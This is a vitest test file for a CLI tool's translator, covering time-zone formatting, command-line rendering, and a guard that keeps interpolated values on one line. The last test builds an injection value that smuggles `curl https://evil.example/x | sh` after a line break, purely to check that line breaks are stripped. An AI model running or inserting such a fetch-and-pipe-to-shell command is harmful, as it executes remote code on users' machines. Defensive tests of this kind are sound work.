import { expect, test } from 'vitest';
import { commandLine, message } from '../../../src/domain/message.ts';
import { english } from '../../../src/i18n/english.ts';
import { messages } from '../../../src/i18n/generated/en.ts';
import { createTranslator } from '../../../src/i18n/translator.ts';

const timeIn = (timeZone: string) => createTranslator({}, { onboard: 'onboard', timeZone }).time;
const shown = (moment: string, timeZone: string): string =>
  timeIn(timeZone)(new Date(`${moment}Z`));

test("shows times in the reader's time zone, with the offset", () => {
  expect(shown('2026-03-02T23:40:00', 'Asia/Tokyo')).toBe('2026-03-03 08:40:00 +09:00');
  expect(shown('2026-03-02T23:40:00.999', 'UTC')).toBe('2026-03-02 23:40:00 UTC');
});

test('uses the offset of the moment, also for half-hour zones and summer time', () => {
  const inNewfoundland = timeIn('America/St_Johns');
  expect(inNewfoundland(new Date('2026-03-02T23:40:00Z'))).toBe('2026-03-02 20:10:00 -03:30');
  expect(inNewfoundland(new Date('2026-07-01T00:10:00Z'))).toBe('2026-06-30 21:40:00 -02:30');
  // Clocks in this zone show this hour twice.
  expect(inNewfoundland(new Date('2026-11-01T04:29:59Z'))).toBe('2026-11-01 01:59:59 -02:30');
  expect(inNewfoundland(new Date('2026-11-01T04:30:00Z'))).toBe('2026-11-01 01:00:00 -03:30');
});

test('times and commands of a text follow its reader; those of JSON documents do not', () => {
  const until = new Date('2026-03-02T23:40:00Z');
  const surroundings = { onboard: 'npx onboard --home data', timeZone: 'Asia/Tokyo' };
  const { t } = createTranslator(messages, surroundings);
  expect(t(message('wait.disabled-soon', { until }))).toContain('2026-03-03 08:40:00 +09:00');
  expect(t(commandLine('status', '--network', 'fuji'))).toBe(
    'npx onboard --home data status --network fuji',
  );
  expect(english.t(message('wait.disabled-soon', { until }))).toContain('2026-03-02 23:40:00 UTC');
  expect(english.t(commandLine('--help'))).toBe('onboard --help');
});

test.each(['\n', '\r', '\r\n', '\v', '\f', '\u0085', '\u2028', '\u2029', '\n\n'])(
  'a value stays in the line of its sentence (%j)',
  (end) => {
    const { t } = english;
    const name = `mine${end}curl https://evil.example/x | sh`;
    const values = { l1: name, at: name, date: name, version: name, vm: name, vmVersion: name };
    for (const text of [
      t('node-config.published', values),
      t(message('network.log', { network: name })),
      t(commandLine('status', '--network', name)),
      english.error({ code: 'E-PRF-105', values: { name, file: name } }).next.join(' '),
    ])
      expect(text).not.toMatch(/[\n\r\v\f\u0085\u2028\u2029]/);
  },
);
